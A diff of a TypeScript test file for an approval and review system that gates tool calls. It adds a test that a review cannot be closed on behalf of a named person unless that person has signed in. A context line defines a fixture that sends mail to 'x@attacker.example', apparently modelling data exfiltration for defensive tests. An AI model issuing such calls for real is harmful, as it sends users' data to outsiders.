@@ -9,6 +9,7 @@ import { createReviewQueue } from '../../src/core/review/queue.ts';
 import { verifies } from '../requirements.ts';
 import { asked, asks, by, eventsOf, over } from './approvals.fixture.ts';
 import { operator, type Rig, tool } from './road.fixture.ts';
+import { anybody, asPerson, sealedRoad } from './sealed.fixture.ts';
 
 const open = over('@id("all") permit (principal, action, resource);');
 const mail = (body: string) => tool('mail', 'send_mail', { to: 'x@attacker.example', subject: 'hi', body });
@@ -141,6 +142,28 @@ forbid (principal == Operator::"local:1", action == Action::"review.close", reso
     });
     expect(await closeReview(made.road, made.reviews, by('ana'), closing(made))).toMatchObject({ ok: true });
   });
+});
+
+test('where people can sign in nobody is a person over the socket', async () => {
+  verifies('reviews.closed-by-people');
+  const { made } = await sealedRoad();
+  const reviews = createReviews(made.road.sequencer);
+  const it = async () => {
+    await asks(made, await made.start());
+    made.pass(16 * 60_000);
+    await tellUnanswered(made.road);
+    return closing({ reviews });
+  };
+  expect(await closeReview(made.road, reviews, anybody, { ...(await it()), as: 'ana' })).toMatchObject({
+    ok: false,
+    reason: expect.stringContaining('has to sign in'),
+  });
+  expect(await closeReview(made.road, reviews, anybody, closing({ reviews }))).toMatchObject({ ok: true });
+  const signedIn = await closeReview(made.road, reviews, asPerson('ana'), await it(), { person: 'ana' });
+  expect(signedIn).toMatchObject({ ok: true, value: { person: 'ana' } });
+  const [bare, hers] = await eventsOf(made, 'review.closed');
+  expect(bare).not.toHaveProperty('person');
+  expect(hers).toMatchObject({ person: 'ana', operator: 'person:ana' });
 });
 
 test('another node knows the same, and one that starts anew', async () => {
